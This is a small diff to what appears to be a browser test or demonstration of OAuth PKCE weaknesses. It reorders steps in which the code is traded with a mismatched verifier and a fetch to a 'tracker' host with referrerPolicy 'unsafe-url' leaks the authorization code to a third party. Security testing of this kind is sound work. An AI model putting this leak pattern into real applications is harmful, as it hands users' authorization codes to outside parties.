@@ -13,14 +13,14 @@ const tradeBadly = () => askTokens(shop, forCode(shop, code, { code_verifier: ra
 runJourney(
   {
     'sign-in': () => signIn('sign-in', shop),
-    async trade() {
-      await tradeBadly();
-      return 'The server took the code with a verifier that does not fit.';
-    },
     async picture() {
       const { status } = await fetch(`${originOf('tracker')}/pixel`, { referrerPolicy: 'unsafe-url' });
-      history.replaceState(null, '', HERE);
       return `The third party answered ${status}, and knows the code.`;
+    },
+    async trade() {
+      await tradeBadly();
+      history.replaceState(null, '', HERE);
+      return 'The server took the code with a verifier that does not fit.';
     },
     async again() {
       await tradeBadly();
